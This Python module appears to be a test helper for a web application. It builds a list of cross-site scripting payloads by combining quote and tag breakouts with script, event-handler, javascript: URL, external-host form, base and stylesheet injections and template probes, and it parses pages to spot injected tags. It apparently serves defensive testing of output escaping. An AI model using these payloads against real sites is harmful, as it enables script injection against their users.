"""XSS payloads: texts that would become scripts, links or forms of others in a page that does not escape them."""

from html.parser import HTMLParser
from itertools import product

BREAKS = (
    "",
    '"',
    "'",
    "`",
    '">',
    "'>",
    "-->",
    "</p>",
    "</textarea>",
    "</title>",
    "</form>",
    "]]>",
    "{{",
    "\u0000",
    "%22%3E",
    "&quot;>",
)
SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//example.org/x.js>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
    "<math><mi xlink:href=javascript:alert(1)>",
    "<meta http-equiv=refresh content=0;url=//example.org>",
    "<base href=//example.org>",
    "<form action=//example.org>",
    "<button formaction=javascript:alert(1)>",
    "<style>@import '//example.org';</style>",
    "<link rel=stylesheet href=//example.org>",
    "<object data=//example.org>",
    "<embed src=//example.org>",
    " onmouseover=alert(1) x=",
    " autofocus onfocus=alert(1) x=",
    "javascript:alert(1)",
    "{{7*7}}{% include 'x' %}${7*7}",
    "<!--<script>",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
)
HOSTILE = [f"{opening}{script}" for opening, script in product(BREAKS, SCRIPTS)]


class Tags(HTMLParser):
    """Every tag of a page with its attributes, but for the values that a form is filled with."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.found.append(f"{tag} {[(name, value) for name, value in attributes if name != 'value']}")


def tags_of(page: str) -> list[str]:
    tags = Tags()
    tags.feed(page)
    return tags.found
